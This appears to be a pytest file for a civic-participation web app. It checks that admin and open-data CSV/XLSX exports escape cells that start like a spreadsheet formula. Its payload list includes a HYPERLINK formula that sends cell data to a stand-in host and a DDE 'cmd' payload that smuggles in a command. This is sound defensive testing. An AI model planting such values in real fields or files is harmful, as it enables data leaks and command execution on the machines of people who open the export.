"""No CSV that Samskap writes lets a spreadsheet run a citizen's text as a formula (OWASP).

Every admin export kind (read from the registry, so a new one is covered) and every open-data CSV is
downloaded through its route with user text that starts like a formula. A text cell that starts with
= + - @, a tab or a carriage return carries one leading ' and gives the original back by the rule in
docs/exports.md; numbers Samskap writes stay numbers, so the Frictionless package stays valid.
"""

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cocreate.exports import opendata
from cocreate.exports import routes as _routes  # noqa: F401 - registers every dataset
from cocreate.exports.datasets import DATASETS
from cocreate.exports.writers import csv_chunks
from cocreate.extensions import db
from cocreate.ideas.services import post_comment
from cocreate.ideas.stages import Stage
from cocreate.municipalities.services import add_district
from cocreate.pipeline.services import move_idea
from cocreate.workshops.models import WorkshopFormat
from cocreate.workshops.services import create_workshop
from tests.factories import PASSWORD

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by its author: must still come back as written
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
SAMSKAP_NUMBER = re.compile(r"-\d+(\.\d+)?(e[+-]\d+)?")
ADMIN_DATASETS = sorted(DATASETS)
OPEN_DATA = [resource[0] for resource in opendata.RESOURCES]


def original(cell: str) -> str:
    """The reader's rule from docs/exports.md, written out here on its own."""
    rest = cell[1:].lstrip("'")
    if cell.startswith("'") and rest.startswith(DANGEROUS):
        return cell[1:]
    return cell


def _assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                assert SAMSKAP_NUMBER.fullmatch(cell), f"{where}: formula cell {cell!r}"


@dataclass
class Texts:
    """What the services stored, per export kind and open-data resource."""

    admin: dict[str, set[str]] = field(default_factory=dict)
    public: dict[str, set[str]] = field(default_factory=dict)


@pytest.fixture
def formulas(world, create_challenge_f, create_idea_f):
    challenge = create_challenge_f(world.municipality, title=PAYLOADS[0])
    start = datetime.now(UTC) + timedelta(days=3)
    ideas, comments, changes, workshops, districts = [], [], [], [], []
    for number, payload in enumerate(PAYLOADS):
        district = add_district(world.municipality, f"{payload} {number}")
        idea = create_idea_f(
            challenge, world.author, title=payload, body=payload, district=district
        )
        comments.append(post_comment(idea, body=payload, author=world.citizen))
        changes.append(
            move_idea(
                idea,
                Stage.assessed,
                answer=f"{payload} er et svar som er langt nok",
                reference=payload,
                unit_name=payload,
                actor=world.facilitator,
            )
        )
        workshops.append(
            create_workshop(
                challenge,
                title=payload,
                format=WorkshopFormat.physical,
                starts_at=start,
                ends_at=start + timedelta(hours=2),
                place=payload,
                actor=world.facilitator,
            )
        )
        ideas.append(idea)
        districts.append(district)
    # The services strip surrounding whitespace, so a leading tab or carriage return reaches the
    # database only by another way (an import, an older version); put one there for the routes.
    ideas[4].title, ideas[5].body = "\t=1+1", "\r=1+1"
    comments[4].body = "\t@SUM(1+1)"
    db.session.commit()
    idea_texts = {t for i in ideas for t in (i.title, i.body)} | {d.name for d in districts}
    history = {t for c in changes for t in (c.answer, c.reference, c.unit_name)}
    return Texts(
        admin={
            "ideas": idea_texts | {challenge.title},
            "comments": {c.body for c in comments},
            "stage_history": history,
            "workshops": {t for w in workshops for t in (w.title, w.place)},
        },
        public={
            "challenges": {challenge.title},
            "ideas": idea_texts,
            "stage_history": history,
        },
    )


def _login_admin(client, world) -> None:
    client.post("/logg-inn", data={"email": world.admin.email, "password": PASSWORD})


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _unescape(text: str) -> str:
    """OOXML stores a carriage return as _x000D_ (Excel reads it back; openpyxl leaves it)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _open_data(client, folder: Path) -> Path:
    response = client.get("/api/v1/municipalities/heimby/datapackage.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        archive.extractall(folder)
    return folder


def test_every_csv_an_admin_can_download_is_parametrized(client, world):
    """The registry read at import is the whole list the running app offers as CSV."""
    _login_admin(client, world)
    page = client.get("/k/heimby/eksport").get_data(as_text=True)
    links = set(re.findall(r'href="/k/heimby/eksport/([^"/]+)\.csv"', page))
    assert links == set(ADMIN_DATASETS) == set(DATASETS)


@pytest.mark.parametrize("dataset", ADMIN_DATASETS)
def test_admin_csv_export_runs_no_formula(client, world, formulas, dataset):
    _login_admin(client, world)
    response = client.get(f"/k/heimby/eksport/{dataset}.csv")
    assert response.status_code == 200
    rows = _parse(response.get_data(as_text=True))
    assert rows[0] == list(DATASETS[dataset].columns)
    _assert_no_formula(rows, dataset)
    recovered = {original(cell) for row in rows[1:] for cell in row}
    missing = formulas.admin.get(dataset, set()) - recovered
    assert not missing, missing


@pytest.mark.parametrize("dataset", ADMIN_DATASETS)
def test_admin_xlsx_export_keeps_every_text_a_string(client, world, formulas, dataset):
    _login_admin(client, world)
    book = load_workbook(io.BytesIO(client.get(f"/k/heimby/eksport/{dataset}.xlsx").get_data()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {_unescape(cell.value) for cell in cells if cell.data_type == "s"}
    missing = formulas.admin.get(dataset, set()) - texts
    assert not missing, missing


@pytest.mark.parametrize("resource", OPEN_DATA)
def test_open_data_csv_runs_no_formula(client, formulas, resource, tmp_path):
    folder = _open_data(client, tmp_path)
    rows = _parse((folder / f"{resource}.csv").read_bytes().decode("utf-8"))
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    schema = next(r["schema"] for r in descriptor["resources"] if r["name"] == resource)
    assert rows[0] == [f["name"] for f in schema["fields"]]
    _assert_no_formula(rows, resource)
    recovered = {original(cell) for row in rows[1:] for cell in row}
    missing = formulas.public.get(resource, set()) - recovered
    assert not missing, missing
    for column, spec in enumerate(schema["fields"]):
        values = [row[column] for row in rows[1:]]
        if spec["type"] != "string":
            assert not any(v.startswith("'") for v in values), (resource, spec["name"])
        elif "enum" not in spec.get("constraints", {}):
            assert spec["description"].endswith(opendata.TEXT_RULE), spec


def test_open_data_with_formulas_is_valid_under_frictionless(client, formulas, tmp_path):
    folder = _open_data(client, tmp_path)
    result = subprocess.run(
        [
            str(Path(sys.executable).with_name("frictionless")),
            "validate",
            "--json",
            str(folder / "datapackage.json"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    report = json.loads(result.stdout)
    assert report["valid"], json.dumps(report, ensure_ascii=False)[:2000]


def test_numbers_samskap_writes_are_not_prefixed_but_text_is():
    rows = [(-3, -0.5, Decimal("-1.25"), 7, None, "-5 grader", "-5", "'+1", "'abc", "e=mc²")]
    lines = "".join(csv_chunks(("a", "b", "c", "d", "e", "f", "g", "h", "i", "j"), rows))
    cells = _parse(lines)[1]
    assert cells == ["-3", "-0.5", "-1.25", "7", "", "'-5 grader", "'-5", "''+1", "'abc", "e=mc²"]
    assert [original(c) for c in cells[5:]] == ["-5 grader", "-5", "'+1", "'abc", "e=mc²"]
